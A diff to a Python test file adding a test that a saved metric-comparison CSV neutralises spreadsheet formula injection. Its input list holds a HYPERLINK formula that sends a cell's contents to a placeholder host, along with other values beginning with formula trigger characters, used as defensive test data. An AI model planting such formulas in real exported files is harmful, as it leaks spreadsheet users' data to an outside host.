@@ -1,5 +1,6 @@
 """Each metric of a comparison against an independent computation."""
 
+import csv
 from dataclasses import replace
 from functools import cache
 
@@ -257,6 +258,21 @@ def test_a_correction_out_of_reach_is_said():
     assert np.isnan(result.to_dataframe().loc["corrected", "wasserstein"])
     assert "variances are not positive" in result.notes[0]
     assert " ".join(result.notes[0].split()) in " ".join(str(result).split())
+
+
+def test_text_in_a_saved_comparison_is_no_formula_of_a_spreadsheet(tmp_path):
+    vi, *_, draws = bernoulli()
+    hostile = ['=HYPERLINK("http://a.example/"&A1,"open")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "plain", "a=b"]
+    table = compare(gibbs=draws, **dict.fromkeys(hostile, vi))
+    with table.save(tmp_path).open(newline="", encoding="utf-8") as file:
+        (corner, *columns), *rows = csv.reader(file)
+    written = [row[0] for row in rows]
+    assert set(written) >= {f"'{label}" for label in hostile[:6]} | {"plain", "a=b"}
+    assert not any(cell.startswith(tuple("=+-@\t\r")) for cell in [corner, *columns, *written])
+    # Numbers stay numbers.
+    assert [float(row[1 + columns.index("elbo")] or "nan") for row in rows] == pytest.approx(
+        table.to_dataframe()["elbo"].tolist(), nan_ok=True
+    )
 
 
 def test_bad_input_is_refused():
